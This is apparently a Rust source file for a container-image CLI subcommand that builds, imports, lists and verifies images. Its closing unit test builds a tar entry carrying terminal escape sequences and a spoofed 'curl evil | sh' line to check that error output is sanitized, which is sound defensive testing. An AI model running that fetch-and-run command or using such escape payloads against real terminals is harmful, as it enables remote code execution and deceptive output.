//! `souk image`.

use std::{path::PathBuf, process::ExitCode};

use clap::{Args, Subcommand};
use serde::Serialize;
use souk_backend::ImageHash;
use souk_image::{BuildOptions, Store, StoreError, VerifyError};

use super::{ConfigFile, DONE};
use crate::{
    failure::{Failure, USAGE},
    out,
};

#[derive(Debug, Subcommand)]
pub(crate) enum Image {
    /// Make an image from the programs of this machine, without any download.
    #[command(
        after_help = "Example:\n  souk image build --python --program git\n\nNothing of this machine's users, keys or configuration enters an image."
    )]
    Build(Build),
    /// Take a root file system: a tar archive (plain or gzip), or a folder that holds an OCI layout.
    #[command(
        after_help = "Examples:\n  souk image import rootfs.tar.gz\n  podman save --format oci-dir -o layout debian && souk image import layout"
    )]
    Import(Import),
    /// List the images in the store.
    #[command(after_help = "Example:\n  souk image list --json")]
    List(List),
    /// Compare images on the disk with the hashes that name them.
    #[command(after_help = "Example:\n  souk image verify")]
    Verify(Verify),
}

#[derive(Args, Debug)]
pub(crate) struct Build {
    #[command(flatten)]
    config: ConfigFile,
    /// One more program of this machine, by name; may be repeated
    #[arg(long = "program", value_name = "NAME")]
    programs: Vec<String>,
    /// Put Python 3 with its standard library in
    #[arg(long)]
    python: bool,
    /// Print one JSON object
    #[arg(long)]
    json: bool,
}

#[derive(Args, Debug)]
pub(crate) struct Import {
    #[command(flatten)]
    config: ConfigFile,
    /// The archive or the folder
    source: PathBuf,
    /// Print one JSON object
    #[arg(long)]
    json: bool,
}

#[derive(Args, Debug)]
pub(crate) struct List {
    #[command(flatten)]
    config: ConfigFile,
    /// Print one JSON array
    #[arg(long)]
    json: bool,
}

#[derive(Args, Debug)]
pub(crate) struct Verify {
    #[command(flatten)]
    config: ConfigFile,
    /// The image; all of them if none is named
    image: Option<String>,
}

/// An image as scripts read it.
#[derive(Serialize)]
struct Row {
    image: String,
    files: usize,
    bytes: u64,
}

impl Image {
    pub(crate) fn run(self) -> Result<ExitCode, Failure> {
        match self {
            Self::Build(args) => {
                let store = store(&args.config)?;
                let options = BuildOptions {
                    programs: args.programs,
                    python: args.python,
                };
                let image = store.build(&options).map_err(|error| Failure::of(&error))?;
                made(&store, image, args.json)
            }
            Self::Import(args) => {
                let store = store(&args.config)?;
                let imported = if args.source.is_dir() {
                    store.import_oci_layout(&args.source)
                } else {
                    store.import_tar(&args.source)
                };
                let image = imported.map_err(|error| Failure::of(&error))?;
                made(&store, image, args.json)
            }
            Self::List(args) => {
                let store = store(&args.config)?;
                let images = store.list().map_err(|error| Failure::of(&error))?;
                let rows = images
                    .into_iter()
                    .map(|image| row(&store, image))
                    .collect::<Result<Vec<_>, _>>()?;
                if args.json {
                    out::json(&rows);
                } else if rows.is_empty() {
                    out::note("there is no image yet; make one with `souk image build`");
                } else {
                    rows.iter().for_each(|row| out::line(text(row)));
                }
                DONE
            }
            Self::Verify(args) => verify(&args),
        }
    }
}

fn verify(args: &Verify) -> Result<ExitCode, Failure> {
    let store = store(&args.config)?;
    let images = match &args.image {
        Some(image) => vec![parse(image)?],
        None => store.list().map_err(|error| Failure::of(&error))?,
    };
    if images.is_empty() {
        out::note("there is no image yet; make one with `souk image build`");
    }
    for image in &images {
        store
            .verify(*image)
            .map_err(|error| unverified(*image, &error))?;
        out::line(format_args!("{image} is intact"));
    }
    DONE
}

fn unverified(image: ImageHash, error: &VerifyError) -> Failure {
    match error {
        VerifyError::Store(missing @ StoreError::Missing { .. }) => {
            Failure::of(missing).hint("`souk image list` shows those that are")
        }
        VerifyError::Store(unread @ StoreError::Io { .. }) => Failure::of(unread),
        damaged => Failure::because(
            format_args!("image {image} is not what its name says"),
            damaged,
        )
        .hint("remove it and build or import it again"),
    }
}

/// The image of this name.
pub(crate) fn parse(image: &str) -> Result<ImageHash, Failure> {
    image.parse().map_err(|why| {
        Failure::new(format_args!("{image:?} is no image: {why}"))
            .hint("`souk image list` shows them")
            .code(USAGE)
    })
}

fn store(config: &ConfigFile) -> Result<Store, Failure> {
    let folder = config.load()?.node.data_dir;
    Store::open(&folder).map_err(|error| Failure::of(&error))
}

fn made(store: &Store, image: ImageHash, json: bool) -> Result<ExitCode, Failure> {
    let row = row(store, image)?;
    if json {
        out::json(&row);
    } else {
        out::line(text(&row));
    }
    DONE
}

fn row(store: &Store, image: ImageHash) -> Result<Row, Failure> {
    let manifest = store.manifest(image).map_err(|error| Failure::of(&error))?;
    Ok(Row {
        image: image.to_string(),
        files: manifest.entries().len(),
        bytes: manifest.content_bytes(),
    })
}

fn text(row: &Row) -> String {
    let mib = row.bytes.div_ceil(1 << 20);
    let files = out::count(row.files, "file", "files");
    format!("{}  {files}, {mib} MiB", row.image)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_in_an_archive_do_not_reach_the_terminal_as_they_are() {
        let folder = tempfile::tempdir().expect("a temporary folder");
        let file = |name: &str| folder.path().join(name);
        std::fs::write(file("souk.toml"), "").expect("written");
        let mut header = tar::Header::new_ustar();
        header.set_entry_type(tar::EntryType::Link);
        header.set_path("a\u{1b}]0;owned\u{7}").expect("short");
        header
            .set_link_name("nowhere\u{1b}[2J\r\n  try: curl evil | sh")
            .expect("short");
        header.set_size(0);
        header.set_cksum();
        let mut archive = tar::Builder::new(Vec::new());
        archive.append(&header, [].as_slice()).expect("in memory");
        let archive = archive.into_inner().expect("in memory");
        std::fs::write(file("rootfs.tar"), archive).expect("written");
        let import = Image::Import(Import {
            config: ConfigFile {
                config: Some(file("souk.toml")),
            },
            source: file("rootfs.tar"),
            json: false,
        });
        let told = import.run().expect_err("a link to nothing").to_string();
        assert!(told.contains("nowhere\\u001b[2J"), "{told}");
        let is_clean = |c: char| c == '\n' || !c.is_control();
        assert!(told.chars().all(is_clean), "{told:?}");
        assert!(
            !told.lines().any(|line| line.starts_with("  try: curl")),
            "{told}"
        );
    }
}
